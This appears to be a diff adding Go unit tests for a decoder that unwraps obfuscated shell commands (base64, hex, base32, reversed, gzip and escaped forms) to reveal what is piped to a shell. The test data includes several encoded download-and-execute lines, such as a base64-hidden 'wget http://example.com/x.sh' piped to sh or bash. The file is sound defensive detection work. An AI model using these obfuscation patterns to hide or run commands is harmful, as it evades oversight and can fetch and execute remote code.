@@ -0,0 +1,128 @@
+package decoder
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"reflect"
+	"testing"
+)
+
+func TestDecode(t *testing.T) {
+	var buff bytes.Buffer
+	writer := gzip.NewWriter(&buff)
+	writer.Write([]byte("ls -la"))
+	writer.Close()
+	gzipped := base64.StdEncoding.EncodeToString(buff.Bytes())
+
+	cases := []struct {
+		command string
+		decoded string
+	}{
+		// the plain commands are kept
+		{command: "ls -la", decoded: "ls -la"},
+		{command: "echo hello > /tmp/x", decoded: "echo hello > /tmp/x"},
+		// the payload executed by the shell
+		{command: "echo hello | sh", decoded: "hello"},
+		{command: "echo d2dldCBodHRwOi8vZXhhbXBsZS5jb20veC5zaA== | base64 -d | sh", decoded: "wget http://example.com/x.sh"},
+		{command: "echo d2dldCBodHRwOi8vZXhhbXBsZS5jb20veC5zaA | base64 --decode | /bin/bash", decoded: "wget http://example.com/x.sh"},
+		{command: "base64 -d <<< bHMgLWxh | sh", decoded: "ls -la"},
+		{command: "echo 6c73202d6c61 | xxd -r -p | sh", decoded: "ls -la"},
+		{command: "echo NRZSALLMME====== | base32 -d | sh", decoded: "ls -la"},
+		{command: "echo 'al- sl' | rev | sh", decoded: "ls -la"},
+		{command: "echo " + gzipped + " | base64 -d | gunzip | sh", decoded: "ls -la"},
+		{command: `printf '\x6c\x73\x20\x2d\x6c\x61' | sh`, decoded: "ls -la"},
+		{command: "printf '%s' 'bHMgLWxh' | base64 -d | sh", decoded: "ls -la"},
+		{command: `echo -e '\154\163' | sh`, decoded: "ls"},
+		{command: `echo 'it'\''s' | cat | sh`, decoded: "it's"},
+		// the payload written or piped is revealed in the echo
+		{command: "echo d2dldCBodHRwOi8vZXhhbXBsZS5jb20veC5zaA== | base64 -d", decoded: "echo 'wget http://example.com/x.sh'"},
+		{command: "echo bHMgLWxh | base64 -d > /tmp/x.sh", decoded: "echo 'ls -la' > /tmp/x.sh"},
+		{command: "echo bHMgLWxh | base64 -d | grep ls", decoded: "echo 'ls -la' | grep ls"},
+		// the ANSI-C quoted words
+		{command: `$'\x6c\x73' -la`, decoded: "'ls' -la"},
+		// the statements and the substitutions are decoded separately
+		{command: "cd /tmp && echo bHMgLWxh | base64 -d | sh; id", decoded: "cd /tmp && ls -la; id"},
+		{command: "x=$(echo bHMgLWxh | base64 -d)", decoded: "x=$(echo 'ls -la')"},
+		// the nested obfuscations
+		{command: "echo ZWNobyBiSE1nTFd4aCB8IGJhc2U2NCAtZCB8IHNo | base64 -d | sh", decoded: "ls -la"},
+		// the invalid and the binary payloads are kept as is
+		{command: "echo not-base64! | base64 -d | sh", decoded: "echo not-base64! | base64 -d | sh"},
+		{command: "echo AAEC | base64 -d | sh", decoded: "echo AAEC | base64 -d | sh"},
+		{command: "echo H4sIAAAA | base64 -d | gunzip | sh", decoded: "echo H4sIAAAA | base64 -d | gunzip | sh"},
+	}
+
+	for _, c := range cases {
+		t.Run(c.command, func(t *testing.T) {
+			decoded, ok := Decode(c.command)
+			switch {
+			case decoded != c.decoded:
+				t.Errorf("expect %q, got %q", c.decoded, decoded)
+			case ok != (c.decoded != c.command):
+				t.Errorf("expect decoded=%v, got %v", c.decoded != c.command, ok)
+			}
+		})
+	}
+}
+
+func TestWords(t *testing.T) {
+	cases := map[string][]string{
+		"ls -la":                 {"ls", "-la"},
+		`echo "a b" 'c d' e\ f`:  {"echo", "a b", "c d", "e f"},
+		`echo "say \"hi\" \$x"`:  {"echo", `say "hi" $x`},
+		`echo $'\x41' $(id -u)`:  {"echo", "A", "$(id -u)"},
+		"base64 -d<<<abc":        {"base64", "-d", "<<<", "abc"},
+		"echo 'unclosed":         {"echo", "unclosed"},
+		"  \t ":                  nil,
+		`echo a"b"'c'`:           {"echo", "abc"},
+		"cat $(echo 'a)b') done": {"cat", "$(echo 'a)b')", "done"},
+	}
+
+	for text, expect := range cases {
+		if args := words(text); !reflect.DeepEqual(args, expect) {
+			t.Errorf("expect %q of %q, got %q", expect, text, args)
+		}
+	}
+}
+
+func TestSplit(t *testing.T) {
+	cases := []struct {
+		text     string
+		segments []segment
+	}{
+		{text: "ls", segments: []segment{{text: "ls"}}},
+		{text: "a && b || c; d", segments: []segment{{"a ", "&&"}, {" b ", "||"}, {" c", ";"}, {text: " d"}}},
+		{text: `echo "a;b" 'c&&d' e\;f`, segments: []segment{{text: `echo "a;b" 'c&&d' e\;f`}}},
+		{text: "x=$(a; b); c", segments: []segment{{"x=$(a; b)", ";"}, {text: " c"}}},
+		{text: "a;", segments: []segment{{"a", ";"}, {text: ""}}},
+	}
+
+	for _, c := range cases {
+		if segments := split(c.text, statementSeparators); !reflect.DeepEqual(segments, c.segments) {
+			t.Errorf("expect %q of %q, got %q", c.segments, c.text, segments)
+		}
+	}
+}
+
+func TestUnescape(t *testing.T) {
+	cases := map[string]string{
+		`plain`:       "plain",
+		`\x6c\x73`:    "ls",
+		`\x6`:         "\x06",
+		`\xZZ`:        `\xZZ`,
+		`\154\163`:    "ls",
+		`\0154`:       "l",
+		`\0`:          "\x00",
+		`é`:           "é",
+		`\n\t\\\'`:    "\n\t\\'",
+		`\q`:          `\q`,
+		`trailing\`:   `trailing\`,
+		`\x41\x42\43`: "AB#",
+	}
+
+	for text, expect := range cases {
+		if got := unescape(text); got != expect {
+			t.Errorf("expect %q of %q, got %q", expect, text, got)
+		}
+	}
+}